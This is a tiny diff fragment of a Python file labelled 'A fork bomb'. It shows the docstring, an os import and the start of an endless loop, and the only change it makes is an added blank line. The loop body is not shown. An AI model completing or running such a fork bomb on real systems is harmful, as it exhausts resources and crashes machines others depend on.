@@ -1,4 +1,5 @@
 """A fork bomb."""
+
 import os
 
 while True:
